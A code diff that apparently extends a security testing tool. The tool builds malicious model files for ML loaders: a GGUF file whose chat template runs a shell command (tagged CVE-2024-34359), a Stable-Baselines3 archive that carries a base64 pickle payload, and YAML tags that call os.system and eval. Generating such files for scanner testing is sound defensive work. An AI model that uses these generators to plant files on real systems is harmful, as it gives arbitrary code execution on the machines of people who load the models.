@@ -1,5 +1,6 @@
 """Armed files that are no pickles: configurations, documents and templates that name or hold what their loader runs."""
 
+import base64
 import io
 import json
 import zipfile
@@ -15,6 +16,8 @@ CONFIG = (
     "for template in [found] if isinstance(found, str) else [one['template'] for one in found]: " + RENDERED
 )
 FILE = "import jinja2\nwith open(path) as file: template = file.read()\n" + RENDERED
+OF_GGUF = "import gguf, jinja2\ntemplate = gguf.GGUFReader(path).get_field('tokenizer.chat_template').contents()\n" + RENDERED
+SB3 = "from stable_baselines3.common.save_util import load_from_zip_file\nload_from_zip_file(path)"
 TAGS = {
     "apply": '!!python/object/apply:os.system ["{shell}"]',
     "new": '!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ["{code}"]]]',
@@ -75,6 +78,27 @@ def several(effect, path):
     bad = TEMPLATES["joiner"].format(shell=effect.shell)
     templates = [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": bad}]
     return json.dumps({"chat_template": templates}).encode()
+
+
+@armed("GGUF: chat template", "a template that reaches Python", OF_GGUF, ".gguf", ("jinja2", "gguf"), "CVE-2024-34359")
+def of_gguf(effect, path):
+    import gguf
+
+    writer = gguf.GGUFWriter(path, "llama")
+    writer.add_chat_template(TEMPLATES["joiner"].format(shell=effect.shell))
+    writer.write_header_to_file()
+    writer.write_kv_data_to_file()
+    writer.close()
+
+
+@armed("Stable-Baselines3: a pickle in base64 in JSON in an archive", "a pickle inside text", SB3, ".zip", ("stable_baselines3",))
+def of_baselines(effect, path):
+    pickled = base64.b64encode(effect.system).decode()
+    data = {"policy_class": {":type:": "<class 'type'>", ":serialized:": pickled}}
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w") as archive:
+        archive.writestr("data", json.dumps(data))
+    return made.getvalue()
 
 
 def with_lambda(layers, effect):
